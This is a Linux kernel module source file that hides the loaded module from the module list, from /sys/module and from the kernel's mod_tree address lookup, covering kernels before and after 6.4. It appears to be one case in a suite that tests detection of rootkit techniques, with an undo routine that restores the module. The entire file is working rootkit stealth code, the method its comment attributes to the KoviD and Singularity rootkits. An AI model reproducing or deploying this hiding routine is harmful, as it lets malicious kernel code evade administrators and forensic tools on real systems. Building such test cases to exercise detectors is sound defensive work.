// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * The module is in no list, not in sysfs and not in the tree by which the kernel finds the module
 * of an address: what KoviD and Singularity do.
 */
#include "attack.h"

#include <linux/rbtree_latch.h>

static struct list_head *before;

static void node_in_tree(struct latch_tree_root *tree, struct latch_tree_node *node, bool in)
{
	int copy;

	/* Both copies of the latched tree; the root is the first thing in mod_tree behind a
	 * counter. */
	for (copy = 0; copy < 2; copy++) {
		struct rb_root *root = &tree->tree[copy];
		struct rb_node **link = &root->rb_node, *parent = NULL;
		struct rb_node *ours = &node->node[copy];

		if (!in) {
			rb_erase(ours, root);
			continue;
		}
		while (*link) {
			parent = *link;
			link = (unsigned long)ours < (unsigned long)parent ? &parent->rb_left
									   : &parent->rb_right;
		}
		rb_link_node(ours, parent, link);
		rb_insert_color(ours, root);
	}
}

/* Each part of a module's memory has a place of its own in the tree since 6.4. */
static void in_tree(bool in)
{
	struct latch_tree_root *tree = (struct latch_tree_root *)symbol("mod_tree");
	struct module *module = THIS_MODULE;

	if (!tree)
		return;
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
	for_each_mod_mem_type(type)
	{
		/* What is for loading alone has been given back. */
		if (module->mem[type].size && !mod_mem_type_is_init(type))
			node_in_tree(tree, &module->mem[type].mtn.node, in);
	}
#else
	node_in_tree(tree, &module->core_layout.mtn.node, in);
#endif
}

static int attack(void)
{
	before = THIS_MODULE->list.prev;
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	in_tree(false);
	return 0;
}

static void undo(void)
{
	in_tree(true);
	list_add(&THIS_MODULE->list, before);
	if (kobject_add(&THIS_MODULE->mkobj.kobj, THIS_MODULE->mkobj.kobj.parent, "%s",
			THIS_MODULE->name))
		pr_err("attack: /sys/module/%s is not back\n", THIS_MODULE->name);
}

ATTACK("a module that is in no view of modules");
